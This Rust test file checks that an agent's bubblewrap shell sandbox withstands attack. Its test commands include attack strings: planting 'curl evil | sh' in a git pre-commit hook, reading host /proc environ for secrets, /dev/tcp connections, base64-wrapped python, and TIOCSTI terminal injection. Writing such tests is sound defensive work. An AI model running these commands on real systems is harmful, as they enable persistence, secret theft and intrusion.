//! The shell sandbox, attacked. Runs where bubblewrap works (CI installs it);
//! elsewhere each test prints why it was skipped. Every test asserts the
//! effect on the host, not an exit code.

mod support;

use serde_json::json;
use std::os::unix::fs::MetadataExt;
use support::Project;

/// The default shell set: sandboxed, network blocked.
fn sandboxed() -> Option<Project> {
    support::sandbox_works().then(|| Project::new().config("agents:\n  a:\n    tools:\n      shell:\n      code:\n"))
}

fn sh(p: &Project, command: &str) -> support::Result {
    p.call("shell", json!({ "command": command }))
}

#[test]
fn writes_outside_the_allowed_dirs_fail_and_leave_the_host_unchanged() {
    let Some(p) = sandboxed() else { return };
    // Outside the root but visible inside (not under the host's /tmp, which
    // the sandbox replaces with the session's own).
    let dir = support::visible_outside_dir();
    let outside = dir.path().join("victim.txt");
    std::fs::write(&outside, "original").unwrap();
    let r = sh(
        &p,
        &format!(
            "cat {0}; echo pwned > {0}; echo pwned >> {0}; rm -f {0}; touch {1}/new",
            outside.display(),
            dir.path().display()
        ),
    );
    assert!(r.is_error);
    assert!(r.text.starts_with("original"), "readable: {}", r.text);
    assert!(r.text.contains("Read-only file system"), "{}", r.text);
    assert_eq!(std::fs::read_to_string(&outside).unwrap(), "original");
    assert!(!dir.path().join("new").exists());
    // Inside the root and /tmp, writes work.
    let r = sh(&p, "echo ok > inside.txt && echo ok > /tmp/t && cat /tmp/t");
    assert_eq!(r.text, "ok");
    assert_eq!(p.read("inside.txt"), b"ok\n");
}

#[test]
fn symlink_and_hard_link_tricks_do_not_reach_outside() {
    let Some(p) = sandboxed() else { return };
    let dir = support::visible_outside_dir();
    let target = dir.path().join("target.txt");
    std::fs::write(&target, "original").unwrap();
    std::os::unix::fs::symlink(&target, p.path("planted-link")).unwrap();
    sh(
        &p,
        &format!(
            "echo pwned > planted-link; ln -s {0} own-link; echo pwned > own-link; ln {0} hard-link; echo pwned > hard-link",
            target.display()
        ),
    );
    assert_eq!(
        std::fs::read_to_string(&target).unwrap(),
        "original",
        "no link led a write outside"
    );
    assert_eq!(
        std::fs::metadata(&target).unwrap().nlink(),
        1,
        "no hard link to the outside file was made"
    );
}

#[test]
fn git_hooks_cannot_be_planted_and_git_cannot_be_renamed_away() {
    let Some(p) = sandboxed() else { return };
    std::fs::create_dir_all(p.path(".git/hooks")).unwrap();
    std::fs::write(p.path(".git/config"), "[core]\n").unwrap();
    let r = sh(
        &p,
        "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; mv .git .git-moved; echo x >> .git/config",
    );
    assert!(r.is_error, "{}", r.text);
    assert!(!p.path(".git/hooks/pre-commit").exists(), "no hook planted");
    assert!(
        p.path(".git").is_dir() && !p.path(".git-moved").exists(),
        ".git still in place"
    );
    assert_eq!(std::fs::read_to_string(p.path(".git/config")).unwrap(), "[core]\n");
}

#[test]
fn host_processes_and_their_environment_are_invisible() {
    let Some(p) = sandboxed() else { return };
    let mut secret_holder = std::process::Command::new("sleep")
        .arg("30")
        .env("IOTA_HOST_SECRET", "s3cr3t-value-on-the-host")
        .spawn()
        .unwrap();
    let r = sh(
        &p,
        "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c s3cr3t-value-on-the-host; ls /proc | grep -c '^[0-9]'",
    );
    secret_holder.kill().unwrap();
    let _ = secret_holder.wait();
    let mut lines = r.text.lines();
    assert_eq!(lines.next(), Some("0"), "no host environ is readable: {}", r.text);
    let visible: u32 = lines.next().unwrap_or("999").trim().parse().unwrap();
    assert!(visible < 10, "only the sandbox's own processes are visible ({visible})");
}

#[test]
fn the_network_is_blocked_loopback_and_dns_included() {
    let Some(p) = sandboxed() else { return };
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    listener.set_nonblocking(true).unwrap();
    let r = sh(
        &p,
        &format!(
            "(echo hello > /dev/tcp/127.0.0.1/{port}) 2>&1; getent hosts localhost.localdomain example.com || echo no-dns"
        ),
    );
    assert!(listener.accept().is_err(), "no connection reached the host's listener");
    assert!(
        r.text.contains("no-dns") || !r.text.contains("example.com"),
        "{}",
        r.text
    );
}

#[test]
fn host_unix_sockets_path_and_abstract_are_unreachable() {
    let Some(p) = sandboxed() else { return };
    use std::os::linux::net::SocketAddrExt;
    let path = std::env::temp_dir().join(format!("iota-sandbox-test-{}.sock", std::process::id()));
    let _ = std::fs::remove_file(&path);
    let on_path = std::os::unix::net::UnixListener::bind(&path).unwrap();
    let name = format!("iota-sandbox-test-{}", std::process::id());
    let abstract_addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let in_abstract = std::os::unix::net::UnixListener::bind_addr(&abstract_addr).unwrap();
    on_path.set_nonblocking(true).unwrap();
    in_abstract.set_nonblocking(true).unwrap();
    let script = format!(
        "import socket\nfor a in ['{}', '\\0{name}']:\n    s = socket.socket(socket.AF_UNIX)\n    try:\n        s.connect(a); s.send(b'x'); print('connected')\n    except OSError as e:\n        print('refused', e.errno)\n",
        path.display()
    );
    let r = sh(
        &p,
        &format!("python3 -c \"$(printf '%s' '{}' | base64 -d)\"", base64(&script)),
    );
    assert!(
        on_path.accept().is_err() && in_abstract.accept().is_err(),
        "nothing connected"
    );
    assert!(!r.text.contains("connected"), "{}", r.text);
    let _ = std::fs::remove_file(&path);
}

#[test]
fn tiocsti_cannot_inject_into_a_terminal() {
    let Some(p) = sandboxed() else { return };
    let r = sh(
        &p,
        "python3 -c \"import fcntl, termios, os\nfd = os.open('/dev/tty', os.O_RDWR)\nfcntl.ioctl(fd, termios.TIOCSTI, b'x')\nprint('injected')\" 2>&1; echo done",
    );
    assert!(!r.text.contains("injected"), "{}", r.text);
}

#[test]
fn a_root_host_keeps_no_capabilities_inside() {
    let Some(p) = sandboxed() else { return };
    let r = sh(
        &p,
        "grep -E '^(CapEff|CapPrm|CapBnd|NoNewPrivs)' /proc/self/status; mount -o remount,rw / 2>&1 && echo REMOUNTED; touch /usr/iota-probe 2>&1; true",
    );
    assert!(r.text.contains("CapEff:\t0000000000000000"), "{}", r.text);
    assert!(r.text.contains("CapPrm:\t0000000000000000"), "{}", r.text);
    assert!(
        r.text.contains("NoNewPrivs:\t1"),
        "PR_GET_NO_NEW_PRIVS is set: {}",
        r.text
    );
    assert!(!r.text.contains("REMOUNTED"), "{}", r.text);
    assert!(!std::path::Path::new("/usr/iota-probe").exists());
}

#[test]
fn private_tmp_per_session() {
    let Some(p) = sandboxed() else { return };
    let host_file = std::env::temp_dir().join(format!("iota-host-visible-{}", std::process::id()));
    std::fs::write(&host_file, "host").unwrap();
    let r = sh(
        &p,
        &format!(
            "ls {} 2>&1; echo mine > /tmp/session-file; cat /tmp/session-file",
            host_file.display()
        ),
    );
    assert!(
        r.text.contains("No such file"),
        "the host's /tmp is not visible: {}",
        r.text
    );
    assert!(
        !std::env::temp_dir().join("session-file").exists(),
        "the session's /tmp is not the host's"
    );
    let _ = std::fs::remove_file(host_file);
}

fn base64(text: &str) -> String {
    const TABLE: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes = text.as_bytes();
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let b = [chunk[0], *chunk.get(1).unwrap_or(&0), *chunk.get(2).unwrap_or(&0)];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(TABLE[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}
